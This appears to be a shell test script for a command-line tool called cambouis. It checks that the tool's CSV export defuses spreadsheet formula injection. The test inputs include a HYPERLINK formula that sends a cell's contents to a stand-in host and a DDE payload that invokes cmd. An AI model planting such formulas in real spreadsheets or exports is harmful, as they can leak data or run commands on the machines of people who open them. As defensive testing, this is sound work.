# SPDX-License-Identifier: GPL-3.0-or-later
# csv output defuses formulas (OWASP's CSV injection): a cell starting
# with =, +, -, @, a tab or a carriage return gets a leading "'", inside
# the quotes when the cell is quoted; a plain number (a negative one too)
# stays a number; tsv, the format for scripts, is left as it is.
. "$top_srcdir/tests/cli/lib.sh"
cli_setup

run "init" cambouis -d w.db init --site-label t
run "a formula as a name" cambouis -d w.db venue add '=HYPERLINK("http://x.invalid/?"&A1,"Clic")'
run "a DDE payload" cambouis -d w.db venue add "@SUM(1+1)*cmd|' /C calc'!A0" --commune '+33 6 12 34 56 78'
run "minus" cambouis -d w.db venue add --notes "$(printf '\tpiège\nligne 2')" -- '-2+3'
run "a negative number as a name" cambouis -d w.db venue add -- '-12'
run "a number with a sign and a fraction" cambouis -d w.db venue add '+2.5'
run "an ordinary venue" cambouis -d w.db venue add 'Gymnase Tonkin' --capacity 30 --notes '=clés à l’accueil'
run "csv" cambouis -d w.db venue list --format csv
run "tsv is left as it is" cambouis -d w.db venue list --format tsv
run "text is left as it is" cambouis -d w.db venue list
run "person" cambouis -d w.db person add '=1+1' --role learner
run "person list, csv" cambouis -d w.db person list --format csv

cli_finish
